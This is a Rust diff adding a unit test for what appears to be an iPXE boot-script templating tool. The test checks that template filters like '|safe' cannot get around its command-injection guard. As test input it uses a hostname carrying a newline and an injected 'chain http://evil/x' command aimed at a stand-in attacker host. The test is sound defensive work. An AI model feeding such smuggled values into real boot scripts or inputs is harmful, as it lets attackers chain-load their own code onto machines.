@@ -407,6 +407,28 @@ mod tests {
         }
     }
 
+    /// Issue 19: an operator template that marks a value `|safe` (or
+    /// builds one with `~`, `|string`, `|upper`) gets no way around the
+    /// injection guard: every value written to a script is checked.
+    #[test]
+    fn safe_and_filters_never_bypass_the_injection_guard() {
+        for body in [
+            "echo {{ hostname|safe }}\n",
+            "echo {{ (hostname ~ '')|safe }}\n",
+            "echo {{ hostname|string|safe }}\n",
+            "echo {{ hostname|upper }}\n",
+            "{% set h = hostname|safe %}echo {{ h }}\n",
+        ] {
+            let dir = tempfile::tempdir().unwrap();
+            std::fs::write(dir.path().join("retired.ipxe.j2"), body).unwrap();
+            let t = Templates::load(dir.path()).unwrap();
+            let mut c = ctx();
+            c.hostname = Some("web\nchain http://evil/x".into());
+            let err = t.render_body("retired", &c).expect_err(body).to_string();
+            assert!(err.contains("could inject commands"), "{body:?}: {err}");
+        }
+    }
+
     #[test]
     fn broken_operator_template_names_file_and_line() {
         let dir = tempfile::tempdir().unwrap();
